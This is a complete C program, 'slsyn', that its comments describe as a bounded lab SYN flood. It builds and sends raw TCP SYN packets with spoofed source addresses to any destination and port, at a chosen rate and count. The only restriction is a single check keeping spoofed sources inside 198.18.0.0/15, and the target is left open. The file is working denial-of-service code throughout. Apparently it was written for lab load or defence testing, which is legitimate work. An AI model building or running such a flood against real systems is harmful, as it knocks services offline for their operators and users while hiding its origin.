// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * slsyn: a bounded SYN flood for the lab. Raw IPv4 TCP SYNs to DST:PORT
 * from spoofed sources drawn from NET/LEN (the lab's 198.18.0.0/15 only),
 * random source ports, from a seeded generator.
 *
 *   slsyn DST PORT --count N [--src-net 198.18.128.0/17] [--pps P] [--seed S]
 *
 * Prints "slsyn: sent N seconds S" at the end. --pps 0: as fast as it can.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t rs;

static uint64_t rnd(void)
{
	uint64_t z = (rs += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static uint16_t csum(uint32_t sum, const void *d, size_t n)
{
	const uint8_t *p = d;
	size_t i;

	for (i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	if (n & 1)
		sum += (uint32_t)p[n - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void usage(void)
{
	fprintf(stderr, "usage: slsyn DST PORT --count N [--src-net NET/LEN] [--pps P] [--seed S]\n");
	exit(2);
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "count", required_argument, NULL, 'n' },
		{ "src-net", required_argument, NULL, 's' },
		{ "pps", required_argument, NULL, 'p' },
		{ "seed", required_argument, NULL, 'S' },
		{ NULL, 0, NULL, 0 },
	};
	const char *net = "198.18.128.0/17";
	unsigned long count = 0, pps = 0, i;
	uint32_t base, mask, host;
	struct sockaddr_in dst = { .sin_family = AF_INET };
	struct in_addr na;
	uint8_t pkt[40], ph[12];
	char netbuf[64], *slash;
	int fd, c, len, one = 1, tries;
	uint16_t port;
	double t0;

	rs = (uint64_t)time(NULL);
	while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (c) {
		case 'n': count = strtoul(optarg, NULL, 0); break;
		case 's': net = optarg; break;
		case 'p': pps = strtoul(optarg, NULL, 0); break;
		case 'S': rs = strtoull(optarg, NULL, 0); break;
		default: usage();
		}
	}
	if (argc - optind != 2 || !count || count > 100000000UL)
		usage();
	if (inet_pton(AF_INET, argv[optind], &dst.sin_addr) != 1)
		usage();
	port = (uint16_t)atoi(argv[optind + 1]);
	snprintf(netbuf, sizeof(netbuf), "%s", net);
	slash = strchr(netbuf, '/');
	if (!slash)
		usage();
	*slash = 0;
	len = atoi(slash + 1);
	if (inet_pton(AF_INET, netbuf, &na) != 1 || len < 8 || len > 30)
		usage();
	mask = len ? ~0u << (32 - len) : 0;
	base = ntohl(na.s_addr) & mask;
	/* the lab's range, nothing else */
	if ((base & 0xfffe0000u) != 0xc6120000u) {
		fprintf(stderr, "slsyn: sources must lie inside 198.18.0.0/15\n");
		return 2;
	}
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		fprintf(stderr, "slsyn: raw socket: %s\n", strerror(errno));
		return 1;
	}
	t0 = now();
	for (i = 0; i < count; i++) {
		uint32_t src;
		uint16_t sum;

		host = (uint32_t)rnd() & ~mask;
		if (!host || host == ~mask)
			host = 1;
		src = htonl(base | host);
		memset(pkt, 0, sizeof(pkt));
		pkt[0] = 0x45;
		pkt[2] = 0;
		pkt[3] = 40;
		pkt[4] = (uint8_t)rnd();
		pkt[5] = (uint8_t)rnd();
		pkt[6] = 0x40;                  /* DF */
		pkt[8] = 64;
		pkt[9] = IPPROTO_TCP;
		memcpy(pkt + 12, &src, 4);
		memcpy(pkt + 16, &dst.sin_addr, 4);
		sum = csum(0, pkt, 20);
		pkt[10] = (uint8_t)(sum >> 8);
		pkt[11] = (uint8_t)sum;
		/* TCP */
		{
			uint16_t sp = (uint16_t)(1024 + rnd() % 60000);

			pkt[20] = (uint8_t)(sp >> 8);
			pkt[21] = (uint8_t)sp;
		}
		pkt[22] = (uint8_t)(port >> 8);
		pkt[23] = (uint8_t)port;
		{
			uint32_t seq = (uint32_t)rnd();

			memcpy(pkt + 24, &seq, 4);
		}
		pkt[32] = 5 << 4;
		pkt[33] = 0x02;                 /* SYN */
		pkt[34] = 0xfa;
		pkt[35] = 0xf0;
		memcpy(ph, pkt + 12, 8);
		ph[8] = 0;
		ph[9] = IPPROTO_TCP;
		ph[10] = 0;
		ph[11] = 20;
		{
			uint32_t s = 0;
			size_t k;

			for (k = 0; k < 12; k += 2)
				s += (uint32_t)ph[k] << 8 | ph[k + 1];
			sum = csum(s, pkt + 20, 20);
		}
		pkt[36] = (uint8_t)(sum >> 8);
		pkt[37] = (uint8_t)sum;
		for (tries = 0; sendto(fd, pkt, 40, 0, (struct sockaddr *)&dst, sizeof(dst)) < 0; tries++) {
			if ((errno != ENOBUFS && errno != EAGAIN) || tries == 5000) {
				fprintf(stderr, "slsyn: sendto: %s (after %lu sent)\n", strerror(errno), i);
				return 1;
			}
			usleep(1000);
		}
		if (pps) {
			double due = t0 + (double)(i + 1) / pps;

			while (now() < due)
				usleep(200);
		}
	}
	printf("slsyn: sent %lu seconds %.2f\n", count, now() - t0);
	close(fd);
	return 0;
}
